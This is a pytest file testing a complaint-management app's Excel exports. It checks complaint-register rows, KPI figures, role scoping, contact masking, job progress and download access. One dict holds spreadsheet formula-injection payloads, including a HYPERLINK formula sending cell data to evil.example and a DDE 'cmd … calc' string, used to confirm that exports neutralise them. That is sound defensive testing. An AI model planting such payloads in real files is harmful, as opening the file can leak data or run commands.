"""Exported workbooks, read back with openpyxl: right rows, right figures, scoped."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.models import BUSINESS_TZ, BackgroundTask
from app.services.reporting import exports, kpi
from tests.reporting.kpi_month import build_october
from tests.reporting.test_kpi import COMPANY

REGISTER = "/exports/start/complaint_register"
REPORT = "/exports/start/kpi_report"


@pytest.fixture
def october(db, app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "EXPORT_FOLDER", str(tmp_path))
    return build_october()


def _download(browser, url, **form):
    response = browser.post(url, form)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert "/exports/download/" in response.headers["Location"]
    file = browser.get(response.headers["Location"])
    assert file.status_code == 200
    assert file.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    return load_workbook(io.BytesIO(file.data))


def _register(book):
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return rows[0], {row[0]: row for row in rows[1:]}


def test_complaint_register_holds_every_complaint_of_the_month(october, login):
    header, rows = _register(_download(login("manager"), REGISTER, month="2026-10"))
    assert len(header) == len(exports.REGISTER_COLUMNS) == 29
    # Complaints received in October (cancelled X1, X2 included; C3 came in
    # Sept.).
    expected = (
        *("C1", "C2", "C4", "C5", "C6", "C7", "O1", "C10"),
        *("X1", "X2", "N1", "N2", "H1"),
    )
    assert set(rows) == {october[k].number for k in expected}
    c2 = rows[october["C2"].number]
    assert c2[1] == dt.datetime(2026, 10, 20, 9, 0)  # business time, no zone
    assert c2[3] == "K1回收客户有限公司" and c2[4] == "陈建国"
    assert c2[5] == october["K1"].phone  # Management sees contact data
    assert c2[6] == "杭州市西湖区" and c2[8] == "交货期/上门时效"
    assert c2[13] == "尽快处理并答复"  # expected solution
    assert c2[14] == "运营部"  # responsible department
    assert c2[16] == "吴磊"  # owner ops2
    assert c2[22] == dt.datetime(2026, 10, 28, 16, 0)  # closed
    assert (c2[24], c2[27]) == (1, 4)  # reopened once, latest satisfaction 4
    assert rows[october["C4"].number][27] is None


def test_a_clerks_register_holds_only_their_scope(october, login):
    _, rows = _register(_download(login("ops2"), REGISTER, month="2026-10"))
    # Operations' complaints received in October.
    assert set(rows) == {
        october[k].number for k in ("C1", "C2", "C7", "O1", "X1", "X2", "N1", "H1")
    }


def test_contact_data_is_masked_for_roles_without_the_right(october, login):
    _, rows = _register(_download(login("warehouse"), REGISTER, month="2026-10"))
    assert set(rows) == {october["C4"].number}
    phone = october["K2"].phone
    assert rows[october["C4"].number][5] == phone[:3] + "****" + phone[-4:]


def test_register_over_several_months(october, login):
    _, rows = _register(
        _download(login("manager"), REGISTER, month="2026-10", span="2")
    )
    # September adds C3, C8, C9.
    assert len(rows) == 16 and october["C8"].number in rows


def _dec(value):
    """openpyxl reads numbers back as int or float."""
    return None if value is None else Decimal(str(value))


def test_kpi_report_holds_the_months_figures(october, login, users):
    book = _download(login("manager"), REPORT, month="2026-10")
    summary, by_department, by_staff, complaints, business = book.worksheets
    assert summary["B1"].value == "2026-10"
    assert (business.title, business["B1"].value) == ("经营统计", "2026-10")
    figures = list(summary.iter_rows(min_row=5, values_only=True))
    assert len(figures) == len(kpi.KPIS)
    # Rows follow the KPI order; (numerator, denominator, value): the figures
    # worked out by hand for the month.
    assert [(r[1], r[2], _dec(r[3])) for r in figures] == [
        COMPANY[k.code] for k in kpi.KPIS
    ]
    assert figures[0][5] == 95 and figures[0][7]  # target 95, flagged
    departments = [
        (r[2], r[3], _dec(r[4]))
        for r in by_department.iter_rows(min_row=2, values_only=True)
        if r[0] == "运营部"
    ]
    assert departments[0] == (3, 5, Decimal("60"))  # complaint timeliness
    staff = [
        (r[3], r[4], _dec(r[5]))
        for r in by_staff.iter_rows(min_row=2, values_only=True)
        if r[0] == "吴磊"
    ]  # ops2
    assert staff[0] == (1, 2, Decimal("50"))
    counts = {r[0]: r[1] for r in complaints.iter_rows(values_only=True) if r[0]}
    assert counts["交货期/上门时效"] == 5  # C1 C2 C7 O1 N1 (X1, X2 cancelled)


def test_a_clerks_kpi_report_covers_their_scope(october, login):
    book = _download(login("ops2"), REPORT, month="2026-10")
    first = next(book.worksheets[0].iter_rows(min_row=5, values_only=True))
    assert (first[1], first[2]) == (3, 5)  # Operations' complaint timeliness
    names = {r[0] for r in book.worksheets[1].iter_rows(min_row=2, values_only=True)}
    # Operations, and the customer archive's department for the active
    # customers (of Operations' pickups and cases) behind the complaint rate.
    assert names == {"运营部", "客户服务部"}


def test_large_export_runs_as_a_job_with_progress(october, login, app, monkeypatch, db):
    from fakeredis import FakeStrictRedis
    from rq import Queue, SimpleWorker

    queue = Queue("exports", connection=FakeStrictRedis())
    monkeypatch.setattr(exports, "_queue", lambda: queue)
    monkeypatch.setitem(app.config, "EXPORT_SYNC_ROWS", 3)
    monkeypatch.setattr(exports, "PAGE", 4)
    browser = login("manager")
    response = browser.post(REGISTER, {"month": "2026-10"})
    task_url = response.headers["Location"]
    assert "/exports/task/" in task_url
    task_id = int(task_url.rstrip("/").rsplit("/", 1)[1])
    page = browser.get(task_url).get_data(as_text=True)
    assert "export-bar" in page
    status = browser.get(f"/exports/task/{task_id}/status").get_json()
    assert (status["status"], status["total"], status["percent"]) == ("queued", 13, 0)
    assert browser.get(f"/exports/download/{task_id}").status_code == 404

    seen = []
    commit = db.session.commit

    def watch() -> None:
        seen.append(db.session.get(BackgroundTask, task_id).progress)
        commit()

    # The worker runs the job here, in this app context (as the jobs layer's
    # worker does per job); every commit is watched to see the progress move.
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(db.session, "commit", watch)
        SimpleWorker([queue], connection=queue.connection).work(burst=True)
    db.session.expire_all()
    status = browser.get(f"/exports/task/{task_id}/status").get_json()
    assert (status["status"], status["progress"], status["percent"]) == (
        "done",
        13,
        100,
    )
    assert {4, 8, 12, 13} <= set(seen)  # progress committed page by page
    file = browser.get(f"/exports/download/{task_id}")
    assert len(list(load_workbook(io.BytesIO(file.data)).worksheets[0].rows)) == 14


def test_without_redis_a_large_export_is_built_at_once(
    october, login, app, monkeypatch
):
    monkeypatch.setitem(app.config, "EXPORT_SYNC_ROWS", 1)
    assert not app.config["REDIS_URL"]
    _download(login("manager"), REGISTER, month="2026-10")


def test_exports_are_personal(october, login):
    manager = login("manager")
    response = manager.post(REPORT, {"month": "2026-10"})
    task = response.headers["Location"].rsplit("/", 1)[1]
    assert login("cs").get(f"/exports/download/{task}").status_code == 404
    assert login("cs").get(f"/exports/task/{task}/status").status_code == 404
    assert manager.get("/exports/").status_code == 200


# Text a spreadsheet would take for a formula (OWASP formula injection).
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "expected_solution": "=1+1",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "-2+3",
    "satisfaction_comment": "+1-1",
    "contact_person": "\t=1",
    "result": "\r=2",
}


def _as_text(cell, value) -> None:
    """Written as text with Excel's quote prefix: shown as is, never evaluated.

    A control character in a streamed (inline) string is written with the
    format's own escape (_x000D_ for a carriage return), which Excel decodes
    and openpyxl's reader leaves as it is: decoded here as Excel does.
    """
    from openpyxl.utils.escape import unescape

    assert unescape(cell.value) == value
    assert cell.data_type == "s", f"{value!r} left as a formula"
    assert cell.quotePrefix, f"{value!r} has no quote prefix"


def _hostile_october(db, october):
    from sqlalchemy import update

    from app.models import AppUser, Case, Customer

    k1 = october["K1"].id
    db.session.execute(
        update(Customer)
        .where(Customer.id == k1)
        .values(name=HOSTILE["name"], contact_person=HOSTILE["contact_person"])
    )
    db.session.execute(
        update(Case)
        .where(Case.id == october["C2"].id)
        .values(
            **{
                k: HOSTILE[k]
                for k in (
                    "expected_solution",
                    "description",
                    "title",
                    "satisfaction_comment",
                    "result",
                )
            }
        )
    )
    db.session.execute(
        update(AppUser)
        .where(AppUser.username == "ops2")
        .values(last_name="=", first_name="1+1")
    )
    db.session.commit()


def test_register_writes_formula_like_text_as_text(db, october, login):
    _hostile_october(db, october)
    book = _download(login("manager"), REGISTER, month="2026-10")
    rows = {row[0].value: row for row in book.worksheets[0].iter_rows(min_row=2)}
    c2 = rows[october["C2"].number]
    # Columns: customer, contact person, title, description, expected
    # solution, owner, result, customer's comment.
    column = {
        "name": 3,
        "contact_person": 4,
        "title": 11,
        "description": 12,
        "expected_solution": 13,
        "result": 25,
        "satisfaction_comment": 28,
    }
    for key, index in column.items():
        _as_text(c2[index], HOSTILE[key])
    _as_text(c2[16], "=1+1")  # ops2's name
    assert c2[1].data_type == "d" and c2[24].data_type == "n"  # typed as before


def test_kpi_report_writes_formula_like_text_as_text(db, october, login):
    _hostile_october(db, october)
    book = _download(login("manager"), REPORT, month="2026-10")
    _, _, by_staff, complaints, _business = book.worksheets
    customers = [row[0] for row in complaints.iter_rows() if row[0].value]
    (hostile,) = [c for c in customers if c.value == HOSTILE["name"]]
    _as_text(hostile, HOSTILE["name"])
    staff = [row[0] for row in by_staff.iter_rows(min_row=2) if row[0].value == "=1+1"]
    assert staff
    for cell in staff:
        _as_text(cell, "=1+1")


def test_register_pages_hold_every_row_once_when_receipt_times_tie(
    db, october, login, monkeypatch
):
    from sqlalchemy import update

    from app.models import Case

    numbers = {october[k].number for k in ("C1", "C2", "C4", "C5", "C6", "C7")}
    db.session.execute(
        update(Case)
        .where(Case.number.in_(numbers))
        .values(received_at=dt.datetime(2026, 10, 15, 9, 0, tzinfo=BUSINESS_TZ))
    )
    db.session.commit()
    monkeypatch.setattr(exports, "PAGE", 2)
    book = _download(login("manager"), REGISTER, month="2026-10")
    listed = [
        row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)
    ]
    assert len(listed) == len(set(listed)) == 13
    assert numbers <= set(listed)


def test_streamed_sheet_writes_instants_to_the_millisecond(tmp_path):
    """An instant a few microseconds before a full minute (59.9993 s) is
    written, to Excel's millisecond, not refused by the writer."""
    import datetime as dt

    from openpyxl import load_workbook

    from app.services.reporting import sheets

    book = sheets.StreamedBook(tmp_path)
    sheet = book.create_sheet("登记")
    sheets.append(sheet, ["CS-1", dt.datetime(2026, 10, 1, 9, 30, 59, 999259)])
    book.save(tmp_path / "out.xlsx")
    cells = next(load_workbook(tmp_path / "out.xlsx").active.iter_rows())
    assert cells[1].value == dt.datetime(2026, 10, 1, 9, 30, 59, 999000)


def test_an_export_failing_midway_leaves_no_file_and_says_why(
    october, users, app, monkeypatch, db, tmp_path
):
    """A page that cannot be written (here the third row) fails the task with
    its reason; no half-written workbook stays in the export folder."""
    import json

    monkeypatch.setattr(exports, "PAGE", 2)
    written = []
    register_row = exports._register_row

    def row(*args):
        if len(written) == 2:
            raise ValueError("行数据无法写入")
        written.append(args[0])
        return register_row(*args)

    monkeypatch.setattr(exports, "_register_row", row)
    task = BackgroundTask(
        kind="complaint_register",
        params=json.dumps({"month": "2026-10", "locale": "zh"}),
        status="queued",
        total=0,
        created_by_id=users["manager"].id,
    )
    db.session.add(task)
    db.session.commit()
    with pytest.raises(ValueError, match="行数据无法写入"):
        exports.run_task(task.id)
    db.session.expire_all()
    task = db.session.get(BackgroundTask, task.id)
    assert (task.status, task.message, task.result_path) == (
        "failed",
        "行数据无法写入",
        None,
    )
    assert list(tmp_path.iterdir()) == []
